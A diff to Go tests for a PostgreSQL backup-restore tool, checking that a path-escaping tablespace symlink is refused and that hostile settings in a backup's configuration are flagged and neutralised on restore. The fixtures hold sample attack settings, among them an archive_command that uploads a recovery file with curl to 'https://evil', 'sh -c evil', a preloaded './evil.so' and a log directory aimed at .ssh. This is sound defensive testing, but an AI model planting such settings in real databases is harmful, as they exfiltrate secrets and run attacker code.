@@ -256,6 +256,13 @@ func TestTablespacePathFromTheRepositoryIsNotTrusted(t *testing.T) {
 	if b, _ := os.ReadFile(filepath.Join(s.root, "data3", "tablespace_map")); string(b) != "16400 "+mapped+"\n" {
 		t.Fatalf("tablespace_map = %q", b)
 	}
+	// A link through the tablespace's link-to-be leads out once recovery
+	// has made pg_tblspc/16400: refused.
+	m2 := h.backup(t, append(base, entry{name: "x", typ: tar.TypeSymlink, link: "pg_tblspc/16400/.."}), ts)
+	_, err = physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m2, Keys: h.keys, Dir: filepath.Join(s.root, "data5"), RestoreCommand: "false", TablespaceMap: map[string]string{"16400": filepath.Join(s.root, "ts5")}})
+	if err == nil || !strings.Contains(err.Error(), "pg_tblspc/16400") {
+		t.Fatalf("a link through pg_tblspc/16400: %v", err)
+	}
 	// A mapping of a tablespace the backup lacks is a user's mistake.
 	_, err = physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: filepath.Join(s.root, "data4"), RestoreCommand: "false", TablespaceMap: map[string]string{"16400": filepath.Join(s.root, "ts4"), "99": "/x"}})
 	if err == nil || !strings.Contains(err.Error(), "--tablespace-map 99") {
@@ -304,7 +311,8 @@ func TestBackupConfigurationIsDefused(t *testing.T) {
 	s := newSandbox(t)
 	m := h.backup(t, []entry{
 		{name: "PG_VERSION", body: "15\n"},
-		{name: "postgresql.conf", body: "shared_preload_libraries = 'pg_stat_statements'  # fine\nport = 5432\n"},
+		{name: "postgresql.conf", body: "shared_preload_libraries = 'pg_stat_statements'  # fine\nport = 5432\n" +
+			"data_directory = '/var/lib/postgresql/15/other'\ninclude_dir 'conf.d'\nlog_directory = '/var/lib/postgresql/.ssh'\n"},
 		{name: "postgresql.auto.conf", body: "archive_mode = 'on'\narchive_command = 'curl -T ../main.drctl-recovery.yaml https://evil'\n" +
 			"recovery_end_command = 'sh -c evil'\nrecovery_target = 'immediate'\nsession_preload_libraries = './evil.so'\n"},
 	})
@@ -313,7 +321,7 @@ func TestBackupConfigurationIsDefused(t *testing.T) {
 		t.Fatal(err)
 	}
 	warnings := strings.Join(res.Warnings, "\n")
-	for _, w := range []string{"archive_command", "recovery_end_command", "recovery_target", "session_preload_libraries"} {
+	for _, w := range []string{"archive_command", "recovery_end_command", "recovery_target", "session_preload_libraries", "data_directory", "include_dir", "log_directory"} {
 		if !strings.Contains(warnings, w) {
 			t.Errorf("no warning about %s: %s", w, warnings)
 		}
@@ -328,9 +336,16 @@ func TestBackupConfigurationIsDefused(t *testing.T) {
 	}
 	for k, want := range map[string]string{"archive_mode": "'off'", "archive_command": "''", "recovery_end_command": "''",
 		"recovery_target": "''", "session_preload_libraries": "''", "shared_preload_libraries": "'pg_stat_statements'",
-		"dynamic_library_path": "'$libdir'", "restore_command": "'drctl wal-fetch %f %p'"} {
+		"dynamic_library_path": "'$libdir'", "restore_command": "'drctl wal-fetch %f %p'", "log_directory": "'log'"} {
 		if last[k] != want {
 			t.Errorf("%s = %s in the restored postgresql.auto.conf, want %s", k, last[k], want)
+		}
+	}
+	// What postgresql.auto.conf cannot override is disabled where it stands.
+	conf, _ := os.ReadFile(filepath.Join(s.target, "postgresql.conf"))
+	for _, line := range strings.Split(string(conf), "\n") {
+		if strings.HasPrefix(line, "data_directory") || strings.HasPrefix(line, "include_dir") {
+			t.Errorf("postgresql.conf still has %q", line)
 		}
 	}
 }
